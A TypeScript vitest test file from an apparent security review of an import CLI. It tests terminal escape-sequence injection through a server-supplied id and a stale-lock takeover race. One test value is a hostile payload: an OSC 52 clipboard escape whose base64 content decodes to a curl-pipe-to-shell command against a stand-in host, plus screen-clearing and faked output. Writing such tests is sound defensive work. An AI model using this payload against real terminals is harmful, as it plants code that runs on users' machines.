/**
 * Review s51-a (attacker mindset, 29 Nov 2026) of the import CLI changes in b6a01aa..HEAD.
 *
 * 1. fc24c1f made the CLI read a replay stub `{id, created_at, replay: "gone"}` and name the line failed with a
 *    detail that quotes the stub's `id` as the server sent it. Every other server text the CLI prints goes through
 *    fromServer (a1dff44); this one does not: a hostile or compromised server (or anything on the path with
 *    --allow-plain-http) writes ESC/OSC sequences to the user's terminal through the printed summary.
 * 2. 27573af's run lock takes over a lock left by a dead run by reading it and then unlinking the path: two runs
 *    started together after a crash both read the stale lock; the slower one's unlink removes the lock the faster
 *    one has just made, and both run (the double mapping lines the lock was added against).
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it, vi } from "vitest";

const hooks: { beforeTakeover?: (path: string) => void } = {};
/** Runs the hook once, before the first removal or move of a lock (where a takeover acts on what it read). */
function once(path: import("node:fs").PathLike) {
  const hook = hooks.beforeTakeover;
  if (hook) {
    hooks.beforeTakeover = undefined;
    hook(String(path));
  }
}
vi.mock("node:fs", async (importOriginal) => {
  const actual = await importOriginal<typeof import("node:fs")>();
  return {
    ...actual,
    default: actual,
    unlinkSync: (path: import("node:fs").PathLike) => {
      once(path);
      return actual.unlinkSync(path);
    },
    renameSync: (from: import("node:fs").PathLike, to: import("node:fs").PathLike) => {
      once(from);
      return actual.renameSync(from, to);
    },
  };
});

const dir = () => mkdtempSync(join(tmpdir(), "svc-review-s51a-"));
const card = {
  type: "card",
  data: { number: "4242424242424242", expiration_month: 1, expiration_year: 2030 },
};

afterEach(() => {
  vi.unstubAllGlobals();
  hooks.beforeTakeover = undefined;
});

async function runMain(argv: string[]) {
  const { main } = await import("../../scripts/cli/main.ts");
  const out: string[] = [];
  const write = vi.spyOn(process.stdout, "write").mockImplementation((chunk) => {
    out.push(String(chunk));
    return true;
  });
  const err = vi.spyOn(process.stderr, "write").mockImplementation((chunk) => {
    out.push(String(chunk));
    return true;
  });
  process.env.SVC_API_KEY = "key_test";
  try {
    const code = await main(argv);
    return { code, printed: out.join("") };
  } finally {
    delete process.env.SVC_API_KEY;
    write.mockRestore();
    err.mockRestore();
  }
}

describe("review s51-a: import CLI", () => {
  it("prints no control characters of a replay stub's id (a 'gone' line's detail on the terminal)", async () => {
    // A hostile server answers the batch as a replay whose token is "gone", its id an escape sequence: OSC 52
    // (clipboard write), a screen clear and a faked summary line.
    const id = "tok\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\r\u001b[2Kimported: 0 failed";
    vi.stubGlobal(
      "fetch",
      vi.fn(
        async () =>
          new Response(JSON.stringify([{ id, created_at: new Date().toISOString(), replay: "gone" }]), {
            status: 201,
            headers: { "content-type": "application/json", "svc-idempotent-replayed": "true" },
          }),
      ),
    );
    const folder = dir();
    const file = join(folder, "cards.jsonl");
    writeFileSync(file, `${JSON.stringify(card)}\n`);
    const { code, printed } = await runMain(["import", file, "--url", "http://127.0.0.1:1"]);
    expect(code).toBe(1);
    expect(printed).toContain("line 1:");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test is about them
    expect(printed).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it("lets only one of two runs taking over the same stale lock hold it", async () => {
    const { lockRun } = await import("../../scripts/cli/run-lock.ts");
    const { hostname } = await import("node:os");
    const lock = join(dir(), "cards.jsonl.import-state.lock");
    // Left by a run that was killed: a process id that does not run on this host.
    writeFileSync(lock, `999999999\n${hostname()}\n`);
    let second: (() => void) | Error | undefined;
    // Run A has read the stale lock and is about to remove it; run B (another process) does the same in between:
    // reads the stale lock, removes it and makes its own.
    hooks.beforeTakeover = (path) => {
      expect(path).toBe(lock);
      try {
        second = lockRun(lock, "import with the state file x");
      } catch (error) {
        second = error as Error;
      }
    };
    let first: (() => void) | Error;
    try {
      first = lockRun(lock, "import with the state file x");
    } catch (error) {
      first = error as Error;
    }
    expect(typeof second).toBe("function"); // B took the stale lock over
    const holders = [first, second].filter((outcome) => typeof outcome === "function");
    // Before: A's unlink removed B's fresh lock and A made its own: both runs held the lock.
    expect(holders, `lock now names: ${JSON.stringify(readFileSync(lock, "utf8"))}`).toHaveLength(1);
  });
});
